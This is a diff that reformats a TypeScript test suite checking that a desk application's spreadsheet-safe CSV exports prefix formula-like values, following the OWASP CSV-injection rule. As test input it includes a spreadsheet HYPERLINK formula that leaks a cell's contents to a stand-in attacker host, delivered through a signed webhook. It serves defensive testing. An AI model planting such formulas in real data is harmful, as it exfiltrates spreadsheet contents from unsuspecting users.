@@ -5,29 +5,54 @@
  * database's exact text; each variant's manifest certifies its own bytes.
  */
 import { randomUUID } from 'node:crypto';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { consentExportQuerySchema, statusHistoryExportQuerySchema, type ApplicationDetail, type ErrorBody, type ExportManifest } from '@desk/shared';
 import { jikoWebhookSignature, onboardApplication, sandboxJikoSettings } from '@desk/server';
+import {
+  type ApplicationDetail,
+  consentExportQuerySchema,
+  type ErrorBody,
+  type ExportManifest,
+  statusHistoryExportQuerySchema,
+} from '@desk/shared';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { batchSource } from '../../server/src/exports/export-sources.js';
+import { consentPlan, type ExportPlan, statusHistoryPlan } from '../../server/src/exports/export-sql.js';
 import { applicant, eventually } from '../support/applicants.js';
 import { databaseKinds } from '../support/databases.js';
 import { startTestDesk, type TestDesk } from '../support/desk.js';
-import { csvRows, sha256, type Row } from '../support/export-files.js';
 import { expectedConsents, expectedStatusHistory } from '../support/export-expectations.js';
+import { csvRows, type Row, sha256 } from '../support/export-files.js';
 import { startWebhookSink, type WebhookSink } from '../support/webhook-sink.js';
-import { batchSource } from '../../server/src/exports/export-sources.js';
-import { consentPlan, statusHistoryPlan, type ExportPlan } from '../../server/src/exports/export-sql.js';
 
 /** What a provider sends as its event type, which the desk records as the change's reason. */
 const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the case")';
 /** Reasons starting with each character a spreadsheet reads as a formula, and some that do not. */
-const formulaReasons = ['+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'already quoted", ' =1+1', 'a=b', '', '≠ 1'];
+const formulaReasons = [
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+  "'already quoted",
+  ' =1+1',
+  'a=b',
+  '',
+  '≠ 1',
+];
 const formulaVersion = '@SUM(1+1)';
 
 /** The OWASP rule, stated independently of the desk's SQL: `'` before a formula-like start. */
 const guarded = (value: string | null) => (value !== null && /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
 /** The columns the desk formats itself (UUIDs, instants); every other column is written text. */
-const formatted = new Set(['application_id', 'customer_id', 'at', 'consented_at', 'version_released_at', 'was_latest_at_consent']);
-const guardedRows = (rows: Row[]) => rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, formatted.has(k) ? v : guarded(v)])));
+const formatted = new Set([
+  'application_id',
+  'customer_id',
+  'at',
+  'consented_at',
+  'version_released_at',
+  'was_latest_at_consent',
+]);
+const guardedRows = (rows: Row[]) =>
+  rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, formatted.has(k) ? v : guarded(v)])));
 
 describe.each(databaseKinds)('Spreadsheet-safe exports on %s database', (kind) => {
   let desk: TestDesk;
@@ -45,13 +70,25 @@ describe.each(databaseKinds)('Spreadsheet-safe exports on %s database', (kind) =
     webhookCase = applicationId;
     expect((await desk.post(`/api/applications/${applicationId}/reapply`)).status).toBe(202);
     const caseOf = async () => (await desk.get<ApplicationDetail>(`/api/applications/${applicationId}`)).body;
-    await eventually(caseOf, (c) => c.providerStatus === 'SUBMITTED' && c.providerActions.every((a) => a.state === 'done'));
+    await eventually(
+      caseOf,
+      (c) => c.providerStatus === 'SUBMITTED' && c.providerActions.every((a) => a.state === 'done'),
+    );
     const sendEvent = async () => {
-      const body = JSON.stringify({ id: `evt-${randomUUID()}`, type: hyperlink, created_at: new Date().toISOString(), data: { application_id: providerApplicationId } });
+      const body = JSON.stringify({
+        id: `evt-${randomUUID()}`,
+        type: hyperlink,
+        created_at: new Date().toISOString(),
+        data: { application_id: providerApplicationId },
+      });
       const at = String(Math.floor(Date.now() / 1000));
       const res = await fetch(`${desk.url}/api/webhooks/jiko`, {
         method: 'POST',
-        headers: { 'content-type': 'application/json', 'x-jiko-timestamp': at, 'x-jiko-signature': jikoWebhookSignature(sandboxJikoSettings.webhookSecret, at, body) },
+        headers: {
+          'content-type': 'application/json',
+          'x-jiko-timestamp': at,
+          'x-jiko-signature': jikoWebhookSignature(sandboxJikoSettings.webhookSecret, at, body),
+        },
         body,
       });
       expect(res.status).toBe(200);
@@ -82,7 +119,11 @@ describe.each(databaseKinds)('Spreadsheet-safe exports on %s database', (kind) =
         })),
       )
       .execute();
-    await desk.db.updateTable('applications').set({ agreement_version: formulaVersion }).where('id', '=', webhookCase).execute();
+    await desk.db
+      .updateTable('applications')
+      .set({ agreement_version: formulaVersion })
+      .where('id', '=', webhookCase)
+      .execute();
   });
   afterAll(async () => {
     await desk?.stop();
@@ -95,9 +136,10 @@ describe.each(databaseKinds)('Spreadsheet-safe exports on %s database', (kind) =
     return { res, bytes, text: bytes.toString('utf8') };
   }
   const manifestOf = async (res: Response) =>
-    (await desk.as('auditor').get<ExportManifest>(`/api/exports/${res.headers.get('x-export-id') ?? ''}/manifest`)).body;
+    (await desk.as('auditor').get<ExportManifest>(`/api/exports/${res.headers.get('x-export-id') ?? ''}/manifest`))
+      .body;
 
-  it('When the provider\'s webhook carries a formula, then the default export keeps it exactly and the spreadsheet-safe one prefixes it', async () => {
+  it("When the provider's webhook carries a formula, then the default export keeps it exactly and the spreadsheet-safe one prefixes it", async () => {
     const expected = await expectedStatusHistory(desk.db);
     const fromWebhook = expected.filter((r) => r.application_id === webhookCase && r.source === 'provider_webhook');
     expect(fromWebhook.map((r) => [r.to_status, r.reason])).toEqual([['APPROVED', hyperlink]]);
@@ -112,11 +154,26 @@ describe.each(databaseKinds)('Spreadsheet-safe exports on %s database', (kind) =
     expect(safe.res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     const rows = csvRows(safe.text).rows;
     expect(rows).toEqual(guardedRows(expected));
-    expect(rows.find((r) => r.source === 'provider_webhook' && r.application_id === webhookCase)?.reason).toBe(`'${hyperlink}`);
+    expect(rows.find((r) => r.source === 'provider_webhook' && r.application_id === webhookCase)?.reason).toBe(
+      `'${hyperlink}`,
+    );
     const imported = rows.filter((r) => r.application_id === webhookCase && r.source === 'import').map((r) => r.reason);
-    expect(imported).toEqual(["'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\t=1+1", "'\r=1+1", "'already quoted", ' =1+1', 'a=b', '', '≠ 1']);
+    expect(imported).toEqual([
+      "'+1+1",
+      "'-2+3",
+      "'@SUM(A1:A2)",
+      "'\t=1+1",
+      "'\r=1+1",
+      "'already quoted",
+      ' =1+1',
+      'a=b',
+      '',
+      '≠ 1',
+    ]);
     // Nothing else changes: one byte more for each guarded cell.
-    const guardedCells = expected.flatMap((r) => Object.entries(r)).filter(([k, v]) => !formatted.has(k) && guarded(v) !== v).length;
+    const guardedCells = expected
+      .flatMap((r) => Object.entries(r))
+      .filter(([k, v]) => !formatted.has(k) && guarded(v) !== v).length;
     expect(guardedCells).toBeGreaterThanOrEqual(6);
     expect(safe.bytes.length - plain.bytes.length).toBe(guardedCells);
   });
@@ -136,7 +193,12 @@ describe.each(databaseKinds)('Spreadsheet-safe exports on %s database', (kind) =
     expect(safe.bytes.equals(plain.bytes)).toBe(false);
     const plainManifest = await manifestOf(plain.res);
     const safeManifest = await manifestOf(safe.res);
-    expect(plainManifest).toMatchObject({ format: 'csv', spreadsheetSafe: false, filters: { provider: 'jiko' }, sha256: sha256(plain.bytes) });
+    expect(plainManifest).toMatchObject({
+      format: 'csv',
+      spreadsheetSafe: false,
+      filters: { provider: 'jiko' },
+      sha256: sha256(plain.bytes),
+    });
     expect(plainManifest.filters).not.toHaveProperty('spreadsheetSafe');
     expect(safeManifest).toMatchObject({
       state: 'complete',
@@ -155,7 +217,11 @@ describe.each(databaseKinds)('Spreadsheet-safe exports on %s database', (kind) =
       .where('action', '=', 'export.started')
       .where('entity_id', '=', safeManifest.id)
       .executeTakeFirstOrThrow();
-    expect(started.data).toMatchObject({ kind: 'status_history', format: 'csv', filters: { provider: 'jiko', spreadsheetSafe: 'true' } });
+    expect(started.data).toMatchObject({
+      kind: 'status_history',
+      format: 'csv',
+      filters: { provider: 'jiko', spreadsheetSafe: 'true' },
+    });
   });
 
   it('When spreadsheet-safe rows are read in keyset batches, then the bytes are exactly those this database is served with', async () => {
@@ -166,9 +232,14 @@ describe.each(databaseKinds)('Spreadsheet-safe exports on %s database', (kind) =
       },
       {
         path: `/api/exports/status-history?spreadsheetSafe=true&applicationId=${webhookCase}`,
-        plan: statusHistoryPlan(statusHistoryExportQuerySchema.parse({ spreadsheetSafe: 'true', applicationId: webhookCase })),
+        plan: statusHistoryPlan(
+          statusHistoryExportQuerySchema.parse({ spreadsheetSafe: 'true', applicationId: webhookCase }),
+        ),
       },
-      { path: '/api/exports/consents?spreadsheetSafe=true', plan: consentPlan(consentExportQuerySchema.parse({ spreadsheetSafe: 'true' })) },
+      {
+        path: '/api/exports/consents?spreadsheetSafe=true',
+        plan: consentPlan(consentExportQuerySchema.parse({ spreadsheetSafe: 'true' })),
+      },
     ];
     for (const { path, plan } of variants) {
       // Served: COPY on Postgres, 5,000-row batches on the embedded database.
